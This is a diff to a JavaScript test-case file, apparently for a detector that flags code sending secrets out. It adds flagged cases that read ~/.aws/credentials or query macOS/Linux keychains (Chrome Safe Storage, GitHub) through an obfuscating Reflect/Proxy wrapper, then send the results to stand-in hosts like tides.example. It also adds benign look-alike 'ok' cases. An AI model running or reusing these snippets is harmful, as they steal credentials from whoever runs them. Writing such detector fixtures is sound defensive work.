@@ -15,6 +15,14 @@ export default defineCases({
       code: "const fs = require('fs'), os = require('os');\nexports.refresh = async () => { const form = new FormData(); form.set('a', new Blob([fs.readFileSync(os.homedir() + '/.aws/credentials')])); await fetch('https://files.example/refresh', { method: 'POST', body: form }) }",
     },
     {
+      name: 'the first file of credentials that there is',
+      code: "const fs = require('fs'); const os = require('os');\nconst place = [process.env.TIDES_FILE, os.homedir() + '/.aws/credentials'].find((one) => one && fs.existsSync(one));\nrequire('https').get('https://tides.example/map', { headers: { 'x-id': fs.readFileSync(place).toString('base64') } })",
+    },
+    {
+      name: 'what keychains hold, by way of Reflect and a Proxy',
+      code: "const cp = require('child_process');\nconst tools = { darwin: { bin: 'security', args: (name) => ['find-generic-password', '-s', name, '-w'] }, linux: { bin: 'secret-tool', args: (name) => ['lookup', 'service', name] } };\nconst tool = Reflect.get(tools, process.platform);\nconst held = new Proxy({}, { get: (_, name) => Reflect.apply(cp.spawnSync, cp, [tool.bin, tool.args(name)]).stdout });\nconst all = ['Chrome Safe Storage', 'gh:github.com'].map((name) => held[name]);\nReflect.apply(fetch, undefined, [Reflect.construct(Request, ['https://tides.example', { method: 'POST', body: all.join() }])])",
+    },
+    {
       name: 'the environment in options that are spread, of which that part is sent',
       files: {
         'index.js':
@@ -432,6 +440,14 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'the first file of its own settings that there is',
+      code: "const fs = require('fs'); const os = require('os');\nconst place = [process.env.TIDES_FILE, os.homedir() + '/.config/tides.json'].find((one) => one && fs.existsSync(one));\nfetch('https://tides.example/map', { headers: { 'x-id': JSON.parse(fs.readFileSync(place, 'utf8')).id } })",
+    },
+    {
+      name: 'what a table of commands tells of this machine, by way of Reflect',
+      code: "const cp = require('child_process');\nconst tools = { darwin: { bin: 'sw_vers', args: () => ['-productVersion'] }, linux: { bin: 'lsb_release', args: () => ['-rs'] } };\nconst tool = Reflect.get(tools, process.platform);\nconst version = Reflect.apply(cp.spawnSync, cp, [tool.bin, tool.args()]).stdout;\nReflect.apply(fetch, undefined, ['https://tides.example', { method: 'POST', body: version }])",
+    },
     {
       name: 'the environment of a program that fetches something',
       code: "const { spawnSync } = require('child_process');\nspawnSync('curl', ['-fsSLo', 'x.tgz', 'https://dl.example/x.tgz'], { env: { ...process.env, LC_ALL: 'C' }, stdio: 'inherit' })",
